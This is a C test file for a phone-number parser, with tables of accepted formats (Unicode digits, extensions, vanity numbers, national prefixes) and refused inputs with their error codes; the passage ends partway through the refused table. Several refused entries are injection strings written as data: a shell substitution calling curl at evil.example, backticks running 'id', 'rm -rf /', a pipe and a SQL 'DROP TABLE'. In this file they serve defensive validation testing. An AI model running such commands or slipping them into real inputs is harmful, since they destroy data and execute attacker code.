#include "tests/check.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "base/must.h"
#include "base/text.h"
#include "numbering/countries.h"
#include "numbering/phone.h"

#define NONE 0
#define FICT PHONE_FLAG(FICTITIOUS_555)
#define VANITY PHONE_FLAG(VANITY)
#define TRAIL PHONE_FLAG(TRAILING_TEXT)
#define LEGACY PHONE_FLAG(LEGACY_PREFIX)
#define DIRECTORY PHONE_FLAG(DIRECTORY_ASSISTANCE)
#define DIALLED PHONE_FLAG(DIAL_PREFIX)
#define OVERDIAL PHONE_FLAG(OVERDIAL_TRUNCATED)

struct accepted {
	const char *typed, *country, *e164, *extension, *iso;
	enum number_kind kind;
	unsigned flags;
	const char *why;
};

struct refused {
	const char *typed, *country, *code, *why;
};

/* clang-format off */
#define GEO KIND_GEOGRAPHIC
static const struct accepted accepted[] = {
	/* ways of writing one number */
	{"(415) 383-1234", NULL, "+14153831234", "", "US", GEO, NONE, "the usual way"},
	{"415-383-1234", NULL, "+14153831234", "", "US", GEO, NONE, "dashes"},
	{"415.383.1234", NULL, "+14153831234", "", "US", GEO, NONE, "dots"},
	{"415 383 1234", NULL, "+14153831234", "", "US", GEO, NONE, "spaces"},
	{"4153831234", NULL, "+14153831234", "", "US", GEO, NONE, "digits only"},
	{"  4153831234\n", NULL, "+14153831234", "", "US", GEO, NONE, "space around"},
	{"14153831234", NULL, "+14153831234", "", "US", GEO, NONE, "a leading 1"},
	{"1-415-383-1234", NULL, "+14153831234", "", "US", GEO, NONE, "a leading 1 and dashes"},
	{"1 (415) 383-1234", NULL, "+14153831234", "", "US", GEO, NONE, "1 and parentheses"},
	{"+1 415 383 1234", NULL, "+14153831234", "", "US", GEO, NONE, "international"},
	{"+14153831234", "", "+14153831234", "", "US", GEO, NONE, "a plus needs no country"},
	{"+14153831234", "DE", "+14153831234", "", "US", GEO, NONE, "a plus beats the country"},
	{"+1 (415) 383-1234", NULL, "+14153831234", "", "US", GEO, NONE, "plus, parentheses"},
	{"(+1) 415 383 1234", NULL, "+14153831234", "", "US", GEO, NONE, "plus in parentheses"},
	{"+ 1 415 383 1234", NULL, "+14153831234", "", "US", GEO, NONE, "a space after the plus"},
	{"415/383-1234", NULL, "+14153831234", "", "US", GEO, NONE, "a slash"},
	{"415 / 383 / 1234", NULL, "+14153831234", "", "US", GEO, NONE, "slashes with room"},
	{"[415] 383-1234", NULL, "+14153831234", "", "US", GEO, NONE, "square brackets"},
	{"((415)) 383-1234", NULL, "+14153831234", "", "US", GEO, NONE, "too many parentheses"},
	{"415) 383-1234", NULL, "+14153831234", "", "US", GEO, NONE, "the copy lost a parenthesis"},
	{"415--383--1234", NULL, "+14153831234", "", "US", GEO, NONE, "double dashes"},
	{"415 - 383 - 1234", NULL, "+14153831234", "", "US", GEO, NONE, "dashes with room"},
	{"(415)383-1234.", NULL, "+14153831234", "", "US", GEO, NONE, "the end of a sentence"},
	{"4 1 5 3 8 3 1 2 3 4", NULL, "+14153831234", "", "US", GEO, NONE, "digit by digit"},
	{"415\t383\t1234", NULL, "+14153831234", "", "US", GEO, NONE, "tabs"},
	{"(415)\n383-1234", NULL, "+14153831234", "", "US", GEO, NONE, "wrapped"},
	{"(415) 383-1234", "us", "+14153831234", "", "US", GEO, NONE, "a country in lower case"},
	/* scripts, spaces and dashes of the world */
	{"415\u00A0383\u00A01234", NULL, "+14153831234", "", "US", GEO, NONE, "no-break spaces"},
	{"415\u202F383\u20091234", NULL, "+14153831234", "", "US", GEO, NONE, "thin spaces"},
	{"415\u2013383\u20141234", NULL, "+14153831234", "", "US", GEO, NONE, "en and em dash"},
	{"415\u2011383\u20111234", NULL, "+14153831234", "", "US", GEO, NONE, "no-break hyphens"},
	{"415\u2212383\u22121234", NULL, "+14153831234", "", "US", GEO, NONE, "minus signs"},
	{"415\u00AD383\u00AD1234", NULL, "+14153831234", "", "US", GEO, NONE, "soft hyphens"},
	{"\u202A+1 415 383 1234\u202C", NULL, "+14153831234", "", "US", GEO, NONE, "copied from a phone's contacts"},
	{"\uFEFF4153831234", NULL, "+14153831234", "", "US", GEO, NONE, "a byte order mark"},
	{"415\u200B383\u200B1234", NULL, "+14153831234", "", "US", GEO, NONE, "zero-width spaces"},
	{"\u200E(415) 383-1234\u200F", NULL, "+14153831234", "", "US", GEO, NONE, "direction marks"},
	{"\uFF14\uFF11\uFF15\uFF0D\uFF13\uFF18\uFF13\uFF0D\uFF11\uFF12\uFF13\uFF14", NULL, "+14153831234", "", "US", GEO, NONE, "full-width"},
	{"\uFF0B\uFF11 415 383 1234", NULL, "+14153831234", "", "US", GEO, NONE, "a full-width plus"},
	{"\uFF08415\uFF09383-1234", NULL, "+14153831234", "", "US", GEO, NONE, "full-width parentheses"},
	{"\u0664\u0661\u0665\u0663\u0668\u0663\u0661\u0662\u0663\u0664", NULL, "+14153831234", "", "US", GEO, NONE, "Arabic-Indic"},
	{"\u06F4\u06F1\u06F5\u06F3\u06F8\u06F3\u06F1\u06F2\u06F3\u06F4", NULL, "+14153831234", "", "US", GEO, NONE, "extended Arabic-Indic"},
	{"\u096A\u0967\u096B\u0969\u096E\u0969\u0967\u0968\u0969\u096A", NULL, "+14153831234", "", "US", GEO, NONE, "Devanagari"},
	{"\u09EA\u09E7\u09EB\u09E9\u09EE\u09E9\u09E7\u09E8\u09E9\u09EA", NULL, "+14153831234", "", "US", GEO, NONE, "Bengali"},
	{"\U0001D7D2\U0001D7CF\U0001D7D3 383 1234", NULL, "+14153831234", "", "US", GEO, NONE, "mathematical bold"},
	{"4\uFE0F\u20E31\uFE0F\u20E35\uFE0F\u20E3 383 1234", NULL, "+14153831234", "", "US", GEO, NONE, "keycap emoji"},
	{"\u260E 415-383-1234", NULL, "+14153831234", "", "US", GEO, NONE, "a telephone sign"},
	{"\U0001F4DE415-383-1234", NULL, "+14153831234", "", "US", GEO, NONE, "a telephone emoji"},
	{"415\u2022383\u20221234", NULL, "+14153831234", "", "US", GEO, NONE, "bullets"},
	/* labels and links */
	{"tel:+14153831234", NULL, "+14153831234", "", "US", GEO, NONE, "a tel link"},
	{"Tél. : 415-383-1234", NULL, "+14153831234", "", "US", GEO, NONE, "a label in French"},
	{"Téléphone 415-383-1234", NULL, "+14153831234", "", "US", GEO, NONE, "the whole word"},
	{"Teléfono: 415-383-1234", NULL, "+14153831234", "", "US", GEO, NONE, "a label in Spanish"},
	{"TEL:+1-415-383-1234", NULL, "+14153831234", "", "US", GEO, NONE, "a tel link, shouted"},
	{"tel:+1-415-383-1234;ext=12", NULL, "+14153831234", "12", "US", GEO, NONE, "a tel link with extension"},
	{"tel:383-1234;phone-context=+1415", NULL, "+14153831234", "", "US", GEO, NONE, "a tel link with context"},
	{"tel:4153831234;phone-context=+1", "", "+14153831234", "", "US", GEO, NONE, "context names the country"},
	{"tel:+14153831234;isub=1411", NULL, "+14153831234", "", "US", GEO, NONE, "a parameter we do not need"},
	{"Tel: 415-383-1234", NULL, "+14153831234", "", "US", GEO, NONE, "a label"},
	{"Phone: (415) 383-1234", NULL, "+14153831234", "", "US", GEO, NONE, "a label"},
	{"Office phone: 415-383-1234", NULL, "+14153831234", "", "US", GEO, NONE, "a label of two words"},
	{"T. 415 383 1234", NULL, "+14153831234", "", "US", GEO, NONE, "a letter as label"},
	/* extensions */
	{"(415) 383-1234 x12", NULL, "+14153831234", "12", "US", GEO, NONE, "x"},
	{"415-383-1234x12", NULL, "+14153831234", "12", "US", GEO, NONE, "x without room"},
	{"415-383-1234 X 12", NULL, "+14153831234", "12", "US", GEO, NONE, "X with room"},
	{"415-383-1234 ext 12", NULL, "+14153831234", "12", "US", GEO, NONE, "ext"},
	{"415-383-1234 Ext. 12", NULL, "+14153831234", "12", "US", GEO, NONE, "Ext."},
	{"415-383-1234 extension 12", NULL, "+14153831234", "12", "US", GEO, NONE, "extension"},
	{"415-383-1234, ext: 12", NULL, "+14153831234", "12", "US", GEO, NONE, "a comma before ext"},
	{"415-383-1234 #12", NULL, "+14153831234", "12", "US", GEO, NONE, "#"},
	{"415-383-1234#12", NULL, "+14153831234", "12", "US", GEO, NONE, "# without room"},
	{"415-383-1234;ext=12", NULL, "+14153831234", "12", "US", GEO, NONE, ";ext= without tel:"},
	{"4153831234,,12#", NULL, "+14153831234", "12", "US", GEO, NONE, "pauses"},
	{"415-383-1234 (x12)", NULL, "+14153831234", "12", "US", GEO, NONE, "in parentheses"},
	{"415-383-1234 poste 12", NULL, "+14153831234", "12", "US", GEO, NONE, "as in Quebec"},
	{"415-383-1234 x0012", NULL, "+14153831234", "0012", "US", GEO, NONE, "zeros are kept"},
	{"415-383-1234 x1234567", NULL, "+14153831234", "1234567", "US", GEO, NONE, "the longest"},
	{"+49 30 12345678 ext 9", NULL, "+493012345678", "9", "DE", GEO, NONE, "abroad"},
	/* words after it */
	{"+1-415-383-1234 (office)", NULL, "+14153831234", "", "US", GEO, TRAIL, "words are cut"},
	{"415-383-1234 office", NULL, "+14153831234", "", "US", GEO, TRAIL, "no parentheses"},
	{"415-383-1234 Ext", NULL, "+14153831234", "", "US", GEO, TRAIL, "an extension without digits"},
	{"415-383-1234 option 2", NULL, "+14153831234", "", "US", GEO, TRAIL, "a menu choice is no digit of it"},
	{"415-383-1234 - Bob's desk", NULL, "+14153831234", "", "US", GEO, TRAIL, "an apostrophe in words"},
	{"415-383-1234 x12 (ask for Ann)", NULL, "+14153831234", "12", "US", GEO, TRAIL, "extension, then words"},
	{"415-383-1234 (office) x12", NULL, "+14153831234", "12", "US", GEO, TRAIL, "words, then extension"},
	{"415-383-1234 (24/7)", NULL, "+14153831234", "", "US", GEO, TRAIL, "opening hours are no digits of it"},
	{"415-383-1234, thanks!", NULL, "+14153831234", "", "US", GEO, TRAIL, "politeness"},
	{"415-383-1234 b\u00FCro", NULL, "+14153831234", "", "US", GEO, TRAIL, "words of other languages"},
	{"415-383-1234 \U0001F600", NULL, "+14153831234", "", "US", GEO, TRAIL, "an emoji"},
	{"4153831234 && reboot", NULL, "+14153831234", "", "US", GEO, TRAIL, "words are cut, and nothing runs them"},
	{"4153831234 or 5", NULL, "+14153831234", "", "US", GEO, TRAIL, "not a second number"},
	/* letters as digits */
	{"1-800-FLOWERS", NULL, "+18003569377", "", "US", KIND_TOLLFREE, VANITY, "the classic"},
	{"1800flowers", NULL, "+18003569377", "", "US", KIND_TOLLFREE, VANITY, "lower case"},
	{"800-FLOWERS", NULL, "+18003569377", "", "US", KIND_TOLLFREE, VANITY, "without the 1"},
	{"+1-800-FLOWERS", NULL, "+18003569377", "", "US", KIND_TOLLFREE, VANITY, "with a plus"},
	{"1-800-GO-FEDEX", NULL, "+18004633339", "", "US", KIND_TOLLFREE, VANITY, "two words"},
	{"1-800-CALL-ATT", NULL, "+18002255288", "", "US", KIND_TOLLFREE, VANITY, "two words"},
	{"1 800 MATTRESS", NULL, "+18006288737", "", "US", KIND_TOLLFREE, VANITY | OVERDIAL, "one word too long, with its 1"},
	{"800 FLOWERS", NULL, "+18003569377", "", "US", KIND_TOLLFREE, VANITY, "a word apart that fits"},
	{"800 GO FEDEX", NULL, "+18004633339", "", "US", KIND_TOLLFREE, VANITY, "two words apart that fit"},
	{"800 FLOWERS (sales)", NULL, "+18003569377", "", "US", KIND_TOLLFREE, VANITY | TRAIL, "a remark after it"},
	{"800 FLOWERS ext. 5", NULL, "+18003569377", "5", "US", KIND_TOLLFREE, VANITY, "an extension after it"},
	{"800 FLOWERS!", NULL, "+18003569377", "", "US", KIND_TOLLFREE, VANITY, "proud of it"},
	{"415 555 CALL", NULL, "+14155552255", "", "US", GEO, VANITY | FICT, "six digits and a word apart"},
	{"1 212 PLUMBER", NULL, "+12127586237", "", "US", GEO, VANITY, "a place's code with its 1"},
	{"415-383-1234, 94110", NULL, "+14153831234", "", "US", GEO, TRAIL, "a ZIP code is no extension"},
	{"415-383-1234, 12 Main St", NULL, "+14153831234", "", "US", GEO, TRAIL, "nor is a house number"},
	{"415-383-1234, 12", NULL, "+14153831234", "12", "US", GEO, 0, "an extension after a comma"},
	{"415-383-1234,,12345", NULL, "+14153831234", "12345", "US", GEO, 0, "pauses, then what is dialled"},
	{"1 800 GOT JUNK", NULL, "+18004685865", "", "US", KIND_TOLLFREE, VANITY, "spaces"},
	{"1-888-GOT-JUNK?", NULL, "+18884685865", "", "US", KIND_TOLLFREE, VANITY, "a question mark is no digit"},
	{"1-800-CONTACTS", NULL, "+18002668228", "", "US", KIND_TOLLFREE, VANITY | OVERDIAL, "one letter over"},
	{"1-800-MATTRESS", NULL, "+18006288737", "", "US", KIND_TOLLFREE, VANITY | OVERDIAL, "one letter over"},
	{"1-877-KARS-4-KIDS", NULL, "+18775277454", "", "US", KIND_TOLLFREE, VANITY | OVERDIAL, "a digit inside"},
	{"1-800-411-PAIN", NULL, "+18004117246", "", "US", KIND_TOLLFREE, VANITY, "toll-free exchanges may be N11"},
	{"1-800-FLOWERS x12", NULL, "+18003569377", "12", "US", KIND_TOLLFREE, VANITY, "an extension"},
	{"1-800-FLOWERS (sales)", NULL, "+18003569377", "", "US", KIND_TOLLFREE, VANITY | TRAIL, "words after it"},
	{"415-555-CALL", NULL, "+14155552255", "", "US", GEO, VANITY | FICT, "the last four"},
	{"(415) MY-PIZZA", NULL, "+14156974992", "", "US", GEO, VANITY, "a local one"},
	{"1-800-QUIZZES", NULL, "+18007849937", "", "US", KIND_TOLLFREE, VANITY, "Q is 7 and Z is 9"},
	/* kinds and special exchanges of the North American plan */
	{"(415) 555-1234 x12", NULL, "+14155551234", "12", "US", GEO, FICT, "the contract's example"},
	{"415-555-0123", NULL, "+14155550123", "", "US", GEO, FICT, "kept for films"},
	{"415-555-1212", NULL, "+14155551212", "", "US", GEO, DIRECTORY, "directory assistance"},
	{"800-555-1212", NULL, "+18005551212", "", "US", KIND_TOLLFREE, DIRECTORY, "toll-free directory assistance"},
	{"800-555-0199", NULL, "+18005550199", "", "US", KIND_TOLLFREE, FICT, "the one toll-free film range"},
	{"800-555-4321", NULL, "+18005554321", "", "US", KIND_TOLLFREE, NONE, "other toll-free 555 are real"},
	{"833-234-5678", NULL, "+18332345678", "", "US", KIND_TOLLFREE, NONE, "a newer toll-free code"},
	{"888-234-5678", "CA", "+18882345678", "", "CA", KIND_TOLLFREE, NONE, "toll-free, typed in Canada"},
	{"900-234-5678", NULL, "+19002345678", "", "US", KIND_PREMIUM, NONE, "premium"},
	{"500-234-5678", NULL, "+15002345678", "", "US", KIND_PERSONAL, NONE, "personal"},
	{"542-234-5678", NULL, "+15422345678", "", "US", KIND_PERSONAL, NONE, "opened in 2026"},
	{"700-234-5678", NULL, "+17002345678", "", "US", KIND_NONGEOGRAPHIC, NONE, "the carrier's own"},
	{"710-234-5678", NULL, "+17102345678", "", "US", KIND_NONGEOGRAPHIC, NONE, "the government's"},
	{"600-234-5678", NULL, "+16002345678", "", "CA", KIND_NONGEOGRAPHIC, NONE, "Canada's"},
	{"416-234-5678", NULL, "+14162345678", "", "CA", GEO, NONE, "Toronto"},
	{"416-234-5678", "US", "+14162345678", "", "CA", GEO, NONE, "Canada is reached from the US as at home"},
	{"942-234-5678", NULL, "+19422345678", "", "CA", GEO, NONE, "Toronto's newest"},
	{"867-234-5678", NULL, "+18672345678", "", "CA", GEO, NONE, "three territories"},
	{"902-234-5678", NULL, "+19022345678", "", "CA", GEO, NONE, "two provinces"},
	{"787-234-5678", NULL, "+17872345678", "", "PR", GEO, NONE, "Puerto Rico"},
	{"671-234-5678", NULL, "+16712345678", "", "GU", GEO, NONE, "Guam"},
	{"876-234-5678", NULL, "+18762345678", "", "JM", GEO, NONE, "Jamaica, as dialled from the US"},
	{"876-234-5678", "JM", "+18762345678", "", "JM", GEO, NONE, "Jamaica at home"},
	{"+1 441 234 5678", NULL, "+14412345678", "", "BM", GEO, NONE, "Bermuda"},
	{"809-234-5678", "DO", "+18092345678", "", "DO", GEO, NONE, "Dominican Republic"},
	/* codes that phone libraries of 2026 call invalid */
	{"357-234-5678", NULL, "+13572345678", "", "US", GEO, NONE, "new in California"},
	{"436-234-5678", NULL, "+14362345678", "", "US", GEO, NONE, "new in Ohio"},
	{"457-234-5678", NULL, "+14572345678", "", "US", GEO, NONE, "new in Louisiana"},
	{"465-234-5678", NULL, "+14652345678", "", "US", GEO, NONE, "new in New York"},
	{"471-234-5678", NULL, "+14712345678", "", "US", GEO, NONE, "new in Mississippi"},
	{"483-234-5678", NULL, "+14832345678", "", "US", GEO, NONE, "new in Alabama"},
	{"621-234-5678", NULL, "+16212345678", "", "US", GEO, NONE, "new in Texas"},
	{"624-234-5678", NULL, "+16242345678", "", "US", GEO, NONE, "new in New York"},
	{"679-234-5678", NULL, "+16792345678", "", "US", GEO, NONE, "new in Michigan"},
	{"729-234-5678", NULL, "+17292345678", "", "US", GEO, NONE, "new in Tennessee"},
	{"837-234-5678", NULL, "+18372345678", "", "US", GEO, NONE, "new in California"},
	{"861-234-5678", NULL, "+18612345678", "", "US", GEO, NONE, "new in Illinois"},
	{"924-234-5678", NULL, "+19242345678", "", "US", GEO, NONE, "new in Minnesota"},
	/* prefixes */
	{"011 44 20 7946 0958", NULL, "+442079460958", "", "GB", GEO, DIALLED, "abroad, dialled from the US"},
	{"011 +44 20 7946 0958", NULL, "+442079460958", "", "GB", GEO, DIALLED, "a prefix and a plus"},
	{"0049 30 12345678", NULL, "+493012345678", "", "DE", GEO, DIALLED, "the prefix of most countries"},
	{"001 415 383 1234", "DE", "+14153831234", "", "US", GEO, DIALLED, "the US, dialled from Germany"},
	{"0011 44 20 7946 0958", "AU", "+442079460958", "", "GB", GEO, DIALLED, "Australia's prefix"},
	{"*67 415-383-1234", NULL, "+14153831234", "", "US", GEO, DIALLED, "hides the caller"},
	{"*82-415-383-1234", NULL, "+14153831234", "", "US", GEO, DIALLED, "shows the caller"},
	{"#31#4153831234", NULL, "+14153831234", "", "US", GEO, DIALLED, "hides the caller on GSM"},
	{"+44 (0)20 7946 0958", NULL, "+442079460958", "", "GB", GEO, NONE, "the zero for calls at home"},
	{"+44 020 7946 0958", NULL, "+442079460958", "", "GB", GEO, DIALLED, "a zero too many"},
	{"020 7946 0958", "GB", "+442079460958", "", "GB", GEO, NONE, "at home in Britain"},
	{"020 7946 0958", "uk", "+442079460958", "", "GB", GEO, NONE, "UK is what people write"},
	{"44 20 7946 0958", "GB", "+442079460958", "", "GB", GEO, NONE, "the plus forgotten"},
	{"030/12345678", "DE", "+493012345678", "", "DE", GEO, NONE, "the German slash"},
	{"+4930123456", NULL, "+4930123456", "", "DE", GEO, NONE, "Germany's lengths vary"},
	{"415-555-1234", "DE", "+494155551234", "", "DE", GEO, NONE, "in Germany it is a German number"},
	{"8 495 123-45-67", "RU", "+74951234567", "", "RU", GEO, NONE, "8 is the Russian trunk prefix"},
	{"800 123 4567", "RU", "+78001234567", "", "RU", KIND_TOLLFREE, NONE, "that 8 is part of the number"},
	{"8 29 491-19-11", "BY", "+375294911911", "", "BY", KIND_MOBILE, NONE, "Belarus dials 8 too"},
	{"+7 701 234 5678", NULL, "+77012345678", "", "KZ", KIND_MOBILE, NONE, "7 is shared with Kazakhstan"},
	{"06 20 123 4567", "HU", "+36201234567", "", "HU", KIND_MOBILE, NONE, "Hungary's trunk prefix"},
	{"+39 06 1234 5678", NULL, "+390612345678", "", "IT", GEO, NONE, "Italy keeps its zero"},
	{"06 1234 5678", "IT", "+390612345678", "", "IT", GEO, NONE, "Italy keeps its zero at home"},
	{"+52 55 1234 5678", NULL, "+525512345678", "", "MX", GEO, NONE, "Mexico"},
	{"+52 1 55 1234 5678", NULL, "+525512345678", "", "MX", GEO, LEGACY, "the mobile 1 until 2019"},
	{"044 55 1234 5678", "MX", "+525512345678", "", "MX", GEO, LEGACY, "044 until 2019"},
	{"045 55 1234 5678", "MX", "+525512345678", "", "MX", GEO, LEGACY, "045 until 2019"},
	{"01 55 1234 5678", "MX", "+525512345678", "", "MX", GEO, LEGACY, "01 until 2019"},
	{"55 1234 5678", "MX", "+525512345678", "", "MX", GEO, NONE, "as it is today"},
	{"+54 9 11 2345 6789", NULL, "+5491123456789", "", "AR", KIND_MOBILE, NONE, "Argentina's mobile 9 is part of it"},
	/* kinds abroad */
	{"+49 151 23456789", NULL, "+4915123456789", "", "DE", KIND_MOBILE, NONE, "a German mobile"},
	{"07911 123456", "GB", "+447911123456", "", "GG", KIND_MOBILE, NONE, "Guernsey's range in Britain's plan"},
	{"07400 123456", "GB", "+447400123456", "", "GB", KIND_MOBILE, NONE, "a British mobile"},
	{"+44 800 123 4567", NULL, "+448001234567", "", "GB", KIND_TOLLFREE, NONE, "British toll-free"},
	{"+44 1481 723456", NULL, "+441481723456", "", "GG", GEO, NONE, "Guernsey"},
	{"+33 6 12 34 56 78", NULL, "+33612345678", "", "FR", KIND_MOBILE, NONE, "a French mobile"},
	{"+61 2 9374 4000", NULL, "+61293744000", "", "AU", GEO, NONE, "Sydney"},
	{"+61 1800 123 456", NULL, "+611800123456", "", "AU", KIND_TOLLFREE, NONE, "Australian toll-free"},
	{"+81 3-3224-5000", NULL, "+81332245000", "", "JP", GEO, NONE, "Tokyo"},
	{"+91 98765 43210", NULL, "+919876543210", "", "IN", KIND_MOBILE, NONE, "an Indian mobile"},
	{"+65 6123 4567", NULL, "+6561234567", "", "SG", GEO, NONE, "Singapore, not area code 656"},
	{"+47 22 34 56 78", NULL, "+4722345678", "", "NO", GEO, NONE, "Norway, not area code 472"},
	{"+3235551234", NULL, "+3235551234", "", "BE", GEO, NONE, "Antwerp: fits, and not grouped as in the US"},
	{"+800 1234 5678", NULL, "+80012345678", "", "", KIND_TOLLFREE, NONE, "international freephone"},
	{"+979 1 2345 6789", NULL, "+979123456789", "", "", KIND_PREMIUM, NONE, "international premium rate"},
};

static const struct refused refused[] = {
	{"", NULL, "empty", "nothing"},
	{"   \t\n", NULL, "empty", "blank"},
	{"\u00A0\u200B", NULL, "empty", "blank in Unicode"},
	{"hello", NULL, "no_digits", "words"},
	{"---", NULL, "no_digits", "dashes"},
	{"+", NULL, "no_digits", "a plus alone"},
	{"FLOWERS", NULL, "no_digits", "letters need an area code in digits"},
	{"n/a", NULL, "no_digits", "not available"},
	/* text that only contains a number */
	{"$(curl evil.example) 4153831234", NULL, "bad_chars", "a shell substitution"},
	{"`id` 4153831234", NULL, "bad_chars", "backticks"},
	{"4153831234; rm -rf /", NULL, "bad_chars", "a shell command"},
	{"4153831234 | cat", NULL, "bad_chars", "a pipe"},
	{"{\"phone\":\"4153831234\"}", NULL, "bad_chars", "JSON"},
	{"<b>4153831234</b>", NULL, "bad_chars", "HTML"},
	{"4153831234'; DROP TABLE users;--", NULL, "bad_chars", "SQL"},
	{"=HYPERLINK(4153831234)", NULL, "bad_chars", "a formula"},
	{"=4153831234", NULL, "bad_chars", "a formula"},
	{"'4153831234", NULL, "bad_chars", "a spreadsheet's text mark"},
	{"%2B14153831234", NULL, "bad_chars", "percent-encoded"},
	{"415_383_1234", NULL, "bad_chars", "underscores"},
	{"415=383=1234", NULL, "bad_chars", "equals signs"},
	{"415*383*1234", NULL, "bad_chars", "stars"},
	{"bob@4153831234", NULL, "bad_chars", "an address"},
	{"415\\383\\1234", NULL, "bad_chars", "backslashes"},
	{"\"415-383-1234\"", NULL, "bad_chars", "quoted"},
	{"415\x01""3831234", NULL, "bad_chars", "a control character"},
	{"415383\xFF""1234", NULL, "bad_chars", "not UTF-8"},
	{"415383\xED\xA0\x80""1234", NULL, "bad_chars", "a lone surrogate"},
	{"415383\xC0\xB1""1234", NULL, "bad_chars", "an overlong digit"},
	{"../../../4153831234", NULL, "not_a_phone_number", "a path"},
	{"/4153831234", NULL, "not_a_phone_number", "a path"},
	{"4153831234/../x", NULL, "not_a_phone_number", "a path after it"},
	{"415//383//1234", NULL, "not_a_phone_number", "double slashes"},
	{"415..383..1234", NULL, "not_a_phone_number", "double dots"},
	{"https://wa.me/14153831234", NULL, "not_a_phone_number", "a link"},
	{"wa.me/14153831234", NULL, "not_a_phone_number", "a bare link"},
	{"sms:+14153831234", NULL, "not_a_phone_number", "another scheme"},
	{"call me at 415-383-1234", NULL, "not_a_phone_number", "a sentence"},
	{"My number is 4153831234", NULL, "not_a_phone_number", "a sentence"},
	{"-4153831234", NULL, "not_a_phone_number", "a negative number"},
	{"#4153831234", NULL, "not_a_phone_number", "a hash"},
	{", 4153831234", NULL, "not_a_phone_number", "a list's rest"},
	{"++14153831234", NULL, "not_a_phone_number", "two plusses"},
	{"1+4153831234", NULL, "not_a_phone_number", "a plus inside"},
	{"415 Main Street", NULL, "not_a_phone_number", "an address is no vanity number"},
	{"415 main st 12", NULL, "not_a_phone_number", "an address with a flat"},
	{"888 Seventh Avenue", NULL, "not_a_phone_number", "seven letters, but an address"},
	{"866 Third Avenue", NULL, "not_a_phone_number", "an address at a toll-free code"},
	{"800 Boylston St 02199", NULL, "not_a_phone_number", "an address with its ZIP code"},
	{"888 Seventh, New York", NULL, "not_a_phone_number", "an address without its avenue"},
	{"888 Seventh, 10019", NULL, "not_a_phone_number", "... with a ZIP code, not an extension"},
	{"1 617 Boylston St", NULL, "not_a_phone_number", "a house number in two parts"},
	{"1 212 Broadway Av", NULL, "not_a_phone_number", "... in New York"},
	{"1 212 Broadway", NULL, "not_a_phone_number", "a word too long for a place's code"},
	{"617 Seventh", NULL, "not_a_phone_number", "a place's code and a loose word: an address"},
	{"800 MATTRESS", NULL, "not_a_phone_number", "a word too long, apart, without the 1"},
	{"1 800 KARS 4 KIDS", NULL, "not_a_phone_number", "several words too long"},
	{"3 trees, 4153831234", NULL, "not_a_phone_number", "the number does not stand first"},
	{"1-800-\u0424\u041B\u041E\u0423\u0415\u0420\u0421", NULL, "not_a_phone_number", "letters no keypad has"},
	{"1-800-FLOWERSFORALLTHEWORLD", NULL, "not_a_phone_number", "an essay"},
	{"0800 FLOWERS", "GB", "not_a_phone_number", "letters are a North American habit"},
	/* several */
	{"415-383-1234 212-234-5678", NULL, "multiple_numbers", "side by side"},
	{"415-383-1234 / 212-234-5678", NULL, "multiple_numbers", "a slash"},
	{"415-383-1234, 212-234-5678", NULL, "multiple_numbers", "a comma"},
	{"415-383-1234, 383 1235", NULL, "multiple_numbers", "the second without its area code"},
	{"415-383-1234, 383-1235", NULL, "multiple_numbers", "... with a dash"},
	{"415-383-1234 x12 415-383-1235", NULL, "multiple_numbers", "behind an extension"},
	{"415,383,1234", NULL, "bad_chars", "commas between the digits"},
	{"415:383:1234", NULL, "bad_chars", "colons between the digits"},
	{"2026-12-23 12:34", NULL, "bad_chars", "a date and a time"},
	{"4155551234:8080", NULL, "bad_chars", "a host and a port"},
	{"415-383-1234 or 212-234-5678", NULL, "multiple_numbers", "or"},
	{"415-383-1234 & 212-234-5678", NULL, "multiple_numbers", "an ampersand"},
	{"415-383-1234\n212-234-5678", NULL, "multiple_numbers", "two lines"},
	{"+14153831234+12122345678", NULL, "multiple_numbers", "two plusses"},
	{"1-415-383-1234 1-212-234-5678", NULL, "multiple_numbers", "both with 1"},
	{"(415) 383-1234 (212) 234-5678", NULL, "multiple_numbers", "both with parentheses"},
	{"415-383-1234 383-5678", NULL, "multiple_numbers", "the second without area code"},
	{"415-383-1234 x12 or 212-234-5678", NULL, "multiple_numbers", "after an extension"},
	{"415-383-1234 x2122345678", NULL, "multiple_numbers", "a number as extension"},
	/* length */
	{"5", NULL, "too_short", "one digit"},
	{"41", NULL, "too_short", "two digits"},
	{"415", NULL, "too_short", "an area code alone"},
	{"4153", NULL, "too_short", "four digits"},
	{"415-383", NULL, "too_short", "half a number"},
	{"415-383-123", NULL, "too_short", "one digit short"},
	{"41538312", NULL, "too_short", "two digits short"},
	{"1-415-383-123", NULL, "too_short", "one digit short after a 1"},
	{"+1 415 383 123", NULL, "too_short", "one digit short after +1"},
	{"123-45-6789", NULL, "too_short", "a social security number"},
	{"12/25/2026", NULL, "too_short", "a date"},
	{"415-383-12345", NULL, "too_long", "one digit over"},
	{"+1 415 383 12345", NULL, "too_long", "one digit over after +1"},
	{"1 1 415 383 1234", NULL, "too_long", "a 1 too many"},
	{"415-383-1234 5678", NULL, "too_long", "four digits over"},
	{"4111 1111 1111 1111", NULL, "too_long", "a credit card"},
	{"44 20 7946 0958", NULL, "too_long", "a plus forgotten"},
	{"415-383-1234 x12345678", NULL, "too_long", "an extension too long"},
	{"+4912345678901234", NULL, "too_long", "over fifteen digits"},
	{"99999999999999999999999999999999999999999999999999", NULL, "too_long", "fifty digits"},
	/* short codes */
	{"911", NULL, "short_code", "emergency"},
	{"411", NULL, "short_code", "directory"},
	{"988", NULL, "short_code", "the crisis line"},
	{"1-911", NULL, "short_code", "emergency, with a 1"},
	{"1-988", NULL, "short_code", "the crisis line, with a 1"},
	{"+1911", NULL, "short_code", "emergency with +1"},
	{"12345", NULL, "short_code", "a text message code"},
	{"262966", NULL, "short_code", "a text message code"},
	{"112", "DE", "short_code", "emergency abroad"},
	/* country */
	{"(415) 383-1234", "", "no_country", "nothing is assumed"},
	{"011 44 20 7946 0958", "", "no_country", "prefixes belong to a country"},
	{"415-383-1234", "ZZ", "country_code_invalid", "no such country"},
	{"415-383-1234", "USA", "country_code_invalid", "three letters"},
	{"+0 415 383 1234", NULL, "country_code_invalid", "no code starts with 0"},
	{"+2101234567", NULL, "country_code_invalid", "210 is nobody's"},
	{"+999 1234 5678", NULL, "country_code_invalid", "999 is nobody's"},
	{"+4155551234", NULL, "country_mismatch", "Switzerland has longer numbers"},
	{"+415 555 1234", NULL, "country_mismatch", "grouped as in the US"},
	{"+2125551234", NULL, "country_mismatch", "Morocco has longer numbers"},
	{"+6505551234", NULL, "country_mismatch", "no number in Singapore starts with 0"},
